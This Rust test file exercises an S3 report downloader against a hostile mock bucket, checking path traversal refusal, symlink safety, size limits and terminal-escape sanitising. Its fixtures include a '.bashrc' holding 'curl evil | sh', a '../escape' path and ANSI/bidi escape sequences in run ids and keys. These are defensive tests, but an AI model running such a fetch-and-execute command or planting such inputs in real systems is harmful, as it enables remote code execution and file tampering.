//! `assessor report download` and `report list` against a hostile bucket
//! (moto_server on loopback): a bundle is untrusted input. Its manifest may
//! name files outside the bundle's own, its run id and the bucket's keys may
//! carry terminal escapes, and the output directory may hold planted
//! symlinks.
#![cfg(feature = "appliance")]
// Test code: a panic is a failed test with its location.
#![allow(clippy::unwrap_used)]

mod bucket_support;

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::process::Command;

use assessor::deliver::{self, DeliverError, DownloadLimits, S3Location};
use bucket_support::{BUCKET, assessor, put, put_bundle, s3, text};
use testbed::moto::MotoServer;

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// Every path below `dir`, recursively.
fn tree(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return found;
    };
    for entry in entries {
        let path = entry.unwrap().path();
        found.push(path.display().to_string());
        if path.is_dir() {
            found.extend(tree(&path));
        }
    }
    found
}

#[tokio::test]
async fn a_manifest_naming_other_files_is_refused_before_anything_is_written() {
    let moto = MotoServer::start().unwrap();
    let s3 = s3(&moto).await;
    put_bundle(
        &s3,
        "run-evil",
        "run-evil",
        &[(".bashrc", b"curl evil | sh\n"), ("../escape", b"x")],
    )
    .await;
    put_bundle(&s3, "run-up", "run-up", &[("../escape", b"x")]).await;

    let scratch = tempfile::tempdir().unwrap();
    let out = scratch.path().join("out");
    let location = S3Location::new(BUCKET, "p/run-evil");
    let err = deliver::download(&s3, &location, &out).await.unwrap_err();
    assert!(
        matches!(err, DeliverError::UnexpectedFile { ref name, .. } if name == ".bashrc"),
        "{err}"
    );
    let message = err.to_string();
    assert!(
        message.contains(".bashrc") && message.contains("report.html"),
        "{message}"
    );
    // Nothing at all: neither the good files before the bad entry, nor the
    // output directory.
    assert_eq!(tree(scratch.path()), Vec::<String>::new());

    // The CLI names the entry and exits non-zero.
    let out_arg = out.display().to_string();
    let cli = assessor(
        &moto,
        &[
            "report",
            "download",
            "s3://reports/p/run-up/",
            "--out",
            &out_arg,
        ],
    );
    assert_ne!(cli.status.code(), Some(0), "{}", text(&cli));
    assert!(text(&cli).contains("\"../escape\""), "{}", text(&cli));
    assert_eq!(tree(scratch.path()), Vec::<String>::new());
    assert!(!scratch.path().join("escape").exists());
}

#[tokio::test]
async fn planted_symlinks_are_not_followed_and_files_are_owner_only() {
    let moto = MotoServer::start().unwrap();
    let s3 = s3(&moto).await;
    put_bundle(&s3, "run-1", "run-1", &[]).await;
    let location = S3Location::new(BUCKET, "p/run-1");

    let scratch = tempfile::tempdir().unwrap();
    let victim = scratch.path().join("victim");
    let victim_part = scratch.path().join("victim-part");
    std::fs::write(&victim, "precious").unwrap();
    std::fs::write(&victim_part, "precious").unwrap();
    let out = scratch.path().join("out");
    std::fs::create_dir(&out).unwrap();
    // At the target name and at the temporary name the download used to
    // write through.
    symlink(&victim, out.join("report.html")).unwrap();
    symlink(&victim_part, out.join(".report.html.part")).unwrap();
    symlink(&victim_part, out.join(".report.json.part")).unwrap();

    let (manifest, written) = deliver::download(&s3, &location, &out).await.unwrap();
    assert_eq!(manifest.run_id, "run-1");
    assert_eq!(written.len(), 2);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    assert_eq!(std::fs::read_to_string(&victim_part).unwrap(), "precious");
    for path in &written {
        let meta = std::fs::symlink_metadata(path).unwrap();
        assert!(meta.file_type().is_file(), "{}", path.display());
        assert_eq!(
            meta.permissions().mode() & 0o777,
            0o600,
            "{}",
            path.display()
        );
    }
    assert_eq!(
        std::fs::read(out.join("report.html")).unwrap(),
        b"<html>ok</html>"
    );
    // No temporary file is left behind.
    let mut left: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(
        left,
        [
            ".report.html.part",
            ".report.json.part",
            "manifest.json",
            "report.html",
            "report.json"
        ]
    );

    // A new output directory (and its missing parents) is owner-only.
    let fresh = scratch.path().join("new/deeper");
    deliver::download(&s3, &location, &fresh).await.unwrap();
    assert_eq!(mode(&fresh), 0o700);
    assert_eq!(mode(&fresh.join("report.json")), 0o600);
}

#[tokio::test]
async fn oversized_manifests_and_files_are_refused() {
    let moto = MotoServer::start().unwrap();
    let s3 = s3(&moto).await;
    // A manifest over 1 MiB.
    put(&s3, "p/run-big/manifest.json", vec![b' '; (1 << 20) + 1]).await;
    let scratch = tempfile::tempdir().unwrap();
    let err = deliver::download(&s3, &S3Location::new(BUCKET, "p/run-big"), scratch.path())
        .await
        .unwrap_err();
    assert!(
        matches!(err, DeliverError::TooLarge { ref name, .. } if name == "manifest.json"),
        "{err}"
    );

    // A file over the configured limit, by its manifest size.
    put_bundle(&s3, "run-2", "run-2", &[]).await;
    let out = scratch.path().join("out");
    let err = deliver::download_with(
        &s3,
        &S3Location::new(BUCKET, "p/run-2"),
        &out,
        DownloadLimits { max_file_bytes: 4 },
    )
    .await
    .unwrap_err();
    assert!(matches!(err, DeliverError::TooLarge { .. }), "{err}");
    assert!(!out.exists());

    // A file longer than its manifest says is refused, and nothing of it is
    // left.
    put(&s3, "p/run-2/report.json", vec![b'x'; 4096]).await;
    let err = deliver::download(&s3, &S3Location::new(BUCKET, "p/run-2"), &out)
        .await
        .unwrap_err();
    assert!(
        matches!(err, DeliverError::Checksum { ref name, .. } if name == "report.json"),
        "{err}"
    );
    assert!(!out.join("report.json").exists());
    assert!(
        std::fs::read_dir(&out).unwrap().all(|e| !e
            .unwrap()
            .file_name()
            .to_string_lossy()
            .ends_with(".part")),
        "a temporary file was left"
    );

    // The CLI takes the limit as --max-file-size.
    let out_arg = scratch.path().join("cli").display().to_string();
    put_bundle(&s3, "run-3", "run-3", &[]).await;
    let cli = assessor(
        &moto,
        &[
            "report",
            "download",
            "s3://reports/p/run-3/",
            "--out",
            &out_arg,
            "--max-file-size",
            "8",
        ],
    );
    assert_ne!(cli.status.code(), Some(0), "{}", text(&cli));
    assert!(text(&cli).contains("--max-file-size"), "{}", text(&cli));
}

#[tokio::test]
async fn a_run_id_with_terminal_escapes_is_printed_escaped() {
    let moto = MotoServer::start().unwrap();
    let s3 = s3(&moto).await;
    put_bundle(&s3, "run-esc", "run\x1b[2J\u{202e}-x", &[]).await;
    let scratch = tempfile::tempdir().unwrap();
    let out_arg = scratch.path().join("out").display().to_string();
    let cli = assessor(
        &moto,
        &[
            "report",
            "download",
            "s3://reports/p/run-esc/",
            "--out",
            &out_arg,
        ],
    );
    assert_eq!(cli.status.code(), Some(0), "{}", text(&cli));
    let all = text(&cli);
    assert!(
        !all.contains('\x1b') && !all.contains('\u{202e}'),
        "{all:?}"
    );
    assert!(all.contains("run run\\u{1b}[2J\\u{202e}-x"), "{all}");
}

#[tokio::test]
async fn a_key_with_a_control_character_is_listed_escaped() {
    let moto = MotoServer::start().unwrap();
    let s3 = s3(&moto).await;
    put_bundle(&s3, "run-ok", "run-ok", &[]).await;
    put(&s3, "p/run\x01\x1b[2J/manifest.json", b"{}".to_vec()).await;
    put(&s3, "p/run with space+plus%/manifest.json", b"{}".to_vec()).await;

    let runs = deliver::list_runs(&s3, &S3Location::new(BUCKET, "p"))
        .await
        .unwrap();
    let prefixes: Vec<&str> = runs.iter().map(|r| r.prefix.as_str()).collect();
    assert!(prefixes.contains(&"p/run-ok/"), "{prefixes:?}");
    assert!(prefixes.contains(&"p/run\x01\x1b[2J/"), "{prefixes:?}");
    assert!(
        prefixes.contains(&"p/run with space+plus%/"),
        "{prefixes:?}"
    );

    let cli = assessor(&moto, &["report", "list", "s3://reports/p/"]);
    assert_eq!(cli.status.code(), Some(0), "{}", text(&cli));
    let stdout = String::from_utf8(cli.stdout).unwrap();
    assert!(
        !stdout.contains('\x01') && !stdout.contains('\x1b'),
        "{stdout:?}"
    );
    assert!(
        stdout
            .lines()
            .any(|l| l == "s3://reports/p/run\\u{1}\\u{1b}[2J/"),
        "{stdout}"
    );
    assert!(
        stdout.lines().any(|l| l == "s3://reports/p/run-ok/"),
        "{stdout}"
    );
}

#[test]
fn a_location_that_is_not_an_s3_url_is_a_usage_error_before_any_aws_call() {
    // No credentials, no region and no emulator: were AWS configuration
    // loaded first, the command would probe instance metadata and fail
    // later with exit 1. The URL is checked while the arguments are read.
    for args in [
        &["report", "download", "not-a-url"][..],
        &["report", "download", "https://bucket.s3.amazonaws.com/x/"],
        &["report", "list", "s3://"],
    ] {
        let out = Command::new(env!("CARGO_BIN_EXE_assessor"))
            .args(args)
            .env_remove("AWS_REGION")
            .env_remove("AWS_ENDPOINT_URL")
            .env("AWS_EC2_METADATA_SERVICE_ENDPOINT", "http://127.0.0.1:9")
            .output()
            .unwrap();
        let all = text(&out);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {all}");
        assert!(
            all.contains("is not an S3 location; expected s3://BUCKET/PREFIX/"),
            "{all}"
        );
        assert!(!all.contains("metadata"), "{all}");
    }
}
